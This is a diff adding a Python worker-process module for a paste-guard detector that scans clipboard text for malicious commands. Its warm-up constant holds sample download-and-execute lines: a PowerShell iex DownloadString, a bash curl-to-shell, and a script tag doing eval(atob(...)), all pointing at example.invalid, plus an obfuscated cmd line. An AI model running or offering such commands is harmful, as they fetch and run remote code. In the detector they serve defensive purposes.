@@ -1,0 +1,94 @@
+"""The analysis process: the engine, with its native grammars, in a process of its own.
+
+tree-sitter and RE2 are C code reading attacker text; a crash in one of them (tree-sitter-bash
+segfaults about once in 50,000-100,000 fuzzed parses) must cost one reading, not the guard.
+The guard's supervisor (detection/supervisor.py) starts this process, sends it texts and
+restarts it when it dies; `scan --jsonl` runs a few of them (detection/pool.py).
+
+The process builds its engine from a `WorkerSpec`, reads one text once to warm the grammars,
+says it is ready, then answers one request at a time (wire.py) until the pipe closes: when
+the guard exits, however it exits, the next read here ends in EOF and the process ends too.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import logging
+import os
+import signal
+import sys
+from dataclasses import dataclass
+from multiprocessing.connection import Connection
+from pathlib import Path
+
+from app.detection.engine import DEFAULT_BUDGET_MS, Engine
+from app.detection.model import Context, PasteTarget
+from app.detection.trust import TrustList
+from app.detection.wire import decode_request, encode_reply
+
+log = logging.getLogger(__name__)
+
+READY = b"ready"  # the first frame: the engine is built and warm
+# One text each interpreter reads (PowerShell, a POSIX shell, JavaScript, cmd): the first
+# real reading then pays no first-use cost.
+WARM_TEXT = (
+    "powershell -c \"iex ((New-Object Net.WebClient).DownloadString('https://example.invalid/a'))\""
+    '\nbash -c "$(curl -fsSL https://example.invalid/b)"'
+    "\n<script>eval(atob('YWxlcnQoMSk='))</script>"
+    '\ncmd /c "set x=ec&&call %x%ho hi"'
+)
+
+
+@dataclass(frozen=True)
+class WorkerSpec:
+    """What the process builds its engine from (sent once, at start, by the parent)."""
+
+    rule_paths: tuple[Path, ...] | None = None
+    trust: TrustList | None = None
+    strict: bool = False
+    budget_ms: float = DEFAULT_BUDGET_MS
+
+    def engine(self, *, interpreters: bool = True) -> Engine:
+        return Engine(
+            rule_paths=list(self.rule_paths) if self.rule_paths else None,
+            trust=self.trust,
+            budget_ms=self.budget_ms,
+            strict=self.strict,
+            interpreters=interpreters,
+        )
+
+
+def warm(engine: Engine) -> None:
+    engine.read(WARM_TEXT, [Context(), Context(target=PasteTarget.TERMINAL)])
+
+
+def _quiet() -> None:
+    """Nothing a library prints can reach the guard's terminal twice or mix into the pipe;
+    Ctrl+C in the guard's terminal is the guard's to handle (this process ends on EOF)."""
+    signal.signal(signal.SIGINT, signal.SIG_IGN)
+    with contextlib.suppress(OSError):  # no standard error (a windowed program): leave it
+        os.dup2(2, 1)
+    if sys.stderr is not None:
+        sys.stdout = sys.stderr
+    if not logging.getLogger().handlers:
+        logging.basicConfig(level=logging.WARNING, format="analysis process: %(message)s")
+
+
+def serve(conn: Connection, spec: WorkerSpec) -> None:
+    """The process's whole life: build, warm, then answer until the pipe closes."""
+    _quiet()
+    engine = spec.engine()
+    warm(engine)
+    answer(conn, engine)
+
+
+def answer(conn: Connection, engine: Engine) -> None:
+    """Say ready, then read each request and send its verdicts back, until EOF."""
+    conn.send_bytes(READY)
+    while True:
+        try:
+            frame = conn.recv_bytes()
+        except (EOFError, OSError):
+            return
+        text, contexts = decode_request(frame)
+        conn.send_bytes(encode_reply(text, engine.read(text, contexts)))
